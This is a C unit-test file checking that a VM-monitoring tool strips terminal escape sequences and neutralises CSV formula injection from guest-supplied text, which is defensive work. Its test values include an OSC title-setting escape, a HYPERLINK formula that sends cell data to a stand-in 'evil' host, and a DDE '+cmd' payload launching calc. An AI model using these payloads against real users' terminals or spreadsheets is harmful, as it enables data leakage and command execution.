/* Unit tests: the second line of defence. A backend that lets a guest's
 * raw bytes through (the fake with a leaky snapshot) must still not get
 * a control byte onto the screen (ncurses' own screen, drawn by ui_draw
 * on a terminal that is a file) or into -b's output. */
#include "harness.h"

#include "fake_app.h"
#include "screen.h"

#include <locale.h>
#include <stdlib.h>
#include <unistd.h>

/* What a hostile agent writes: a CR to redraw its row as domain 1, an
 * OSC to set the terminal's title, BEL, a C1 CSI. */
#define LEAK "\r  1 debian-1\033]0;PWNED\007\302\233X"
#define LEAK_SHOWN "?  1 debian-1?]0;PWNED??X"

static const struct backend_ops *fake_ops;
static struct backend_ops leaky_ops;
static const char *leak_work = LEAK, *leak_distro = "c\033[2J";

/* The fake's snapshot, then centos-1's workload, distro and a log-worthy
 * name replaced with raw bytes, as a backend without guest_text would. */
static int leaky_snapshot(struct backend *b, double now, struct snapshot *s,
			  char *err, size_t errlen)
{
	int rc = fake_ops->snapshot(b, now, s, err, errlen);

	for (size_t i = 0; rc == 0 && i < s->n; i++) {
		if (strcmp(s->dom[i].name, "centos-1"))
			continue;
		snprintf(s->dom[i].workload, sizeof s->dom[i].workload, "%s", leak_work);
		snprintf(s->dom[i].distro, sizeof s->dom[i].distro, "%s", leak_distro);
	}
	return rc;
}

/* dom0, debian-1 (domain 1) and centos-1 (domain 2), both ready; the
 * backend leaks centos-1's raw bytes. */
static void open_app(struct app *a)
{
	fake_app_open(a, catalog_demo_text, "demo", 1);
	fake_ops = a->be->ops;
	leaky_ops = *fake_ops;
	leaky_ops.snapshot = leaky_snapshot;
	a->be->ops = &leaky_ops;
	app_launch_nth(a, 0);
	app_launch_nth(a, 1);
	fake_now += 5;
	app_poll(a);
	app_refresh(a);
	app_log(a, "%s", "an event with \033[31mcolour\033[0m and a \r");
}

/* Bytes below 0x20 other than '\n', DEL, and C1 characters in s. */
static int controls(const char *s, size_t n)
{
	int bad = 0;

	for (size_t i = 0; i < n; i++) {
		unsigned char c = (unsigned char)s[i];

		bad += (c < 0x20 && c != '\n') || c == 0x7f || c == 0x9b ||
		       (c == 0xc2 && i + 1 < n && (unsigned char)s[i + 1] < 0xa0);
	}
	return bad;
}

/* ---- batch ------------------------------------------------------------- */

/* One batch_run with stdout going to a file: what it printed (malloc'd). */
static char *batch_output(struct app *a, bool csv, bool utf8, size_t *n)
{
	struct view_opts o = { .delay = 1, .iterations = 1, .csv = csv, .utf8 = utf8 };
	FILE *f = tmpfile();
	int saved = dup(STDOUT_FILENO);
	char *buf = calloc(1, 65536);

	fflush(stdout);
	dup2(fileno(f), STDOUT_FILENO);
	batch_run(a, &o);
	fflush(stdout);
	dup2(saved, STDOUT_FILENO);
	close(saved);
	rewind(f);
	*n = fread(buf, 1, 65535, f);
	fclose(f);
	return buf;
}

static void test_batch(void)
{
	const char *mode[] = { "-b (ASCII)", "-b (UTF-8)" };

	for (int utf8 = 0; utf8 < 2; utf8++) {
		struct app a;
		size_t n;
		char *out;

		open_app(&a);
		out = batch_output(&a, false, utf8, &n);
		CHECK_INT(controls(out, n), 0, "%s: no control byte from a leaky backend", mode[utf8]);
		CHECK_CONTAINS(out, LEAK_SHOWN, "%s: the guest's text with '?' in their place", mode[utf8]);
		CHECK_CONTAINS(out, "event: an event with ?[31mcolour?[0m and a ?",
			       "%s: events lose their control bytes too", mode[utf8]);
		free(out);
		app_free(&a);
	}
}

/* Fields of one CSV line as RFC 4180 reads them (quotes may hold commas). */
static int csv_fields(const char *line, const char *end)
{
	int fields = 1;
	bool quoted = false;

	for (const char *p = line; p < end; p++) {
		if (*p == '"')
			quoted = !quoted;
		else if (*p == ',' && !quoted)
			fields++;
	}
	return fields;
}

/* Lines whose field count differs from the header's. */
static int csv_ragged(const char *out)
{
	const char *nl = strchr(out, '\n');
	int want = nl ? csv_fields(out, nl) : 0, bad = 0;

	for (const char *p = out; (nl = strchr(p, '\n')); p = nl + 1)
		bad += csv_fields(p, nl) != want;
	return bad;
}

static void test_csv(void)
{
	struct app a;
	size_t n;
	char *out;

	leak_work = "=HYPERLINK(\"http://evil/\"&A1,\"x\"),\r\n1";
	leak_distro = "+cmd|' /C calc'!A0";
	open_app(&a);
	out = batch_output(&a, true, false, &n);
	CHECK_INT(controls(out, n), 0, "--csv: no control byte from a leaky backend");
	CHECK_CONTAINS(out, ",\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\"),??1\"\n",
		       "--csv: a formula with , and \" is neutralised with ', quoted, quotes doubled");
	CHECK_CONTAINS(out, ",'+cmd|' /C calc'!A0,", "--csv: a text field starting with + gets a '");
	CHECK_CONTAINS(out, ",2,centos-1,", "--csv: numbers stay numbers");
	CHECK_INT(csv_ragged(out), 0, "--csv: every line has the header's number of fields");
	free(out);
	app_free(&a);
	leak_work = LEAK;
	leak_distro = "c\033[2J";
}

/* ---- screen ------------------------------------------------------------ */

/* ui_draw once, the screen as ncurses holds it and the bytes it sent. */
static void draw(struct app *a, bool utf8, struct screen *scr)
{
	struct view_opts o = { .delay = 1, .utf8 = utf8 };
	struct ui u = { .a = a, .o = &o, .sel_i = -1 };

	screen_draw(&u, scr);
}

static void test_screen(void)
{
	const char *mode[] = { "screen (ASCII)", "screen (UTF-8)" };

	for (int utf8 = 0; utf8 < 2; utf8++) {
		struct app a;
		struct screen *scr = calloc(1, sizeof *scr);
		int as_domain1 = 0, hostile = -1;

		open_app(&a);
		draw(&a, utf8, scr);
		for (int y = 0; y < SCR_ROWS; y++) {
			const char *p = strstr(scr->line[y], "1 debian-1");

			as_domain1 += p && p - scr->line[y] < 13;   /* in the ID and NAME columns */
			if (hostile < 0 && strstr(scr->line[y], "2 centos-1"))
				hostile = y;
		}
		CHECK_INT(as_domain1, 1, "%s: one row reads as domain 1 debian-1, not the hostile one too",
			  mode[utf8]);
		CHECK(hostile >= 0, "%s: centos-1 has its row", mode[utf8]);
		if (hostile >= 0) {
			CHECK_CONTAINS(scr->line[hostile], LEAK_SHOWN,
				       "%s: its workload shows '?' for each control", mode[utf8]);
			CHECK(!strstr(scr->line[hostile], "^[") && !strstr(scr->line[hostile], "~["),
			      "%s: no control reached ncurses (it would show ^[)", mode[utf8]);
		}
		CHECK(!strstr(scr->bytes, "\033]0;PWNED"), "%s: no OSC title went to the terminal",
		      mode[utf8]);
		free(scr->bytes);
		free(scr);
		app_free(&a);
	}
}

int main(void)
{
	if (!setlocale(LC_ALL, "C.UTF-8"))
		setlocale(LC_ALL, "");
	test_batch();
	test_csv();
	test_screen();
	return harness_done();
}
